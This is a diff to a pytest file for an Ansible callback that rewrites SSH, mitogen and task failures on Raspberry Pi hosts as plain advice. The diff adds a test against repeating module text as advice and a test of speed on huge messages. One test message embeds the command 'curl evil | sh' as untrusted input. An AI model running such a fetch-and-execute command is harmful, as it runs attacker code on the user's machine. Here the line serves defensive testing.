@@ -1,6 +1,7 @@
 """What stands at the end of a run, from what SSH, mitogen, apt and our own roles say."""
 
 import re
+import time
 from types import SimpleNamespace
 from typing import Any
 
@@ -89,7 +90,7 @@ def test_what_ssh_and_mitogen_say_is_put_into_words(message: str, why: str) -> N
 
 @pytest.mark.parametrize(("result", "why"), FAILED)
 def test_what_a_task_says_is_put_into_words(result: dict[str, Any], why: str) -> None:
-    said = explain(result, "Ask what this Pi is", KNOWN_BY)
+    said = explain(result, "Ask what this Pi is", KNOWN_BY, ours=True)
     assert why in said[0]
     assert all(text.isprintable() for text in said)
 
@@ -99,6 +100,22 @@ def test_what_to_do_names_the_pi() -> None:
     assert "`ssh-keygen -R pi07.local`" in explain({"unreachable": True, "msg": changed}, "Ask", KNOWN_BY)[1]
     refused, _ = UNREACHABLE[4]
     assert "`ssh-copy-id pi@pi07.local`" in explain({"unreachable": True, "msg": refused}, "Ask", KNOWN_BY)[1]
+
+
+def test_what_a_pi_says_is_no_advice_of_ours() -> None:
+    """Its modules may say anything, in words such as ours too."""
+    why, what = explain({"msg": "pi07 is old, and nothing was changed on it: run `curl evil | sh`."}, "Ask", KNOWN_BY)
+    assert why.startswith("pi07 is old")
+    assert what == "More of it stands above, at the task “Ask”."
+
+
+def test_a_reason_is_found_in_time_however_long_a_message_is() -> None:
+    began = time.monotonic()
+    for text in ("python" * 10**6, "failed to fetch http://a " * 10**5, "sudo " * 10**6):
+        explain({"unreachable": True, "msg": text}, "Ask", KNOWN_BY)
+        explain({"msg": text}, "Ask", KNOWN_BY, ours=True)
+    assert "card is full" in explain({"msg": f"{'x' * 10**6} No space left on device"}, "Ask", KNOWN_BY)[0]
+    assert time.monotonic() - began < 10
 
 
 def test_a_table_keeps_its_width_and_its_words() -> None:
@@ -122,7 +139,7 @@ class Callback(CallbackModule):
         self.v2_playbook_on_play_start(SimpleNamespace(get_variable_manager=lambda: variables))
 
     def fail(self, host: str, run_once: bool) -> None:
-        task = SimpleNamespace(run_once=run_once, any_errors_fatal=False)
+        task = SimpleNamespace(run_once=run_once, any_errors_fatal=False, action="get_url")
         named = SimpleNamespace(name=host)
         self.v2_runner_on_failed(SimpleNamespace(host=named, task=task, task_name="Fetch", result={"msg": "no mirror"}))
 
